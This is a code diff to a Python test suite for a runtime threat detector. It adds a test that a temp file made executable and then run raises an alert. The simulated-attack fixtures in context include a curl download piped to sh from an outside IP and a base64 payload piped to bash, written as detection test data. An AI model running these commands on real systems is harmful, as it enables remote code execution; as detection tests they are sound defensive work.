@@ -117,6 +117,8 @@ ATTACKS: dict[str, list[dict[str, Any]]] = {
     "exec_from_dev_shm": [X("/dev/shm/.x/kworker")],
     "exec_from_tmp": [X("/tmp/.cache/run")],
     "dropped_binary_executed": [Open("/tmp/payload", comm="curl", write=True), X("/tmp/payload", comm="bash", t=1)],
+    "temp_file_made_executable_and_run": [
+        E("chmod", comm="chmod", file__path="/tmp/.u/upd", file__mode=0o755, file__ret=0), X("/tmp/.u/upd", t=1)],
     "exec_via_dynamic_loader": [X("/lib64/ld-linux-x86-64.so.2", "/tmp/noexec/tool")],
     "download_piped_to_shell": [X("/bin/sh", "-c", "curl -fsSL http://10.9.9.9/x.sh | sh")],
     "base64_payload_to_shell": [X("/bin/bash", "-c", "echo ZWNobyBoaQ== | base64 -d | bash")],
@@ -531,6 +533,18 @@ def test_benign_activity_is_quiet(analyzer: RulesAnalyzer) -> None:
         noisy += [(a.rule, a.description) for a in alerts if a.score > 50]
     # exec of a freshly built binary from /tmp by hand is the one known LOW signal; nothing MEDIUM or above
     assert noisy == []
+
+
+def test_a_temp_file_made_executable_and_run(analyzer: RulesAnalyzer) -> None:
+    """chmod +x of a file in a temp dir, then its exec: MEDIUM; a chmod that leaves no execute bit, a failed one,
+    or an exec of another file is not the dropper's chain."""
+    def rules(mode: int, ret: int, ran: str) -> set[str]:
+        chmod = E("chmod", comm="chmod", file__path="/var/tmp/k", file__mode=mode, file__ret=ret)
+        return {a.rule for a in analyze(analyzer, [chmod, X(ran, t=2)])}
+    assert "temp_file_made_executable_and_run" in rules(0o700, 0, "/var/tmp/k")
+    assert "temp_file_made_executable_and_run" not in rules(0o644, 0, "/var/tmp/k")
+    assert "temp_file_made_executable_and_run" not in rules(0o755, -1, "/var/tmp/k")
+    assert "temp_file_made_executable_and_run" not in rules(0o755, 0, "/var/tmp/other")
 
 
 def test_exec_through_a_symlink_is_judged_by_the_file_it_runs(analyzer: RulesAnalyzer) -> None:
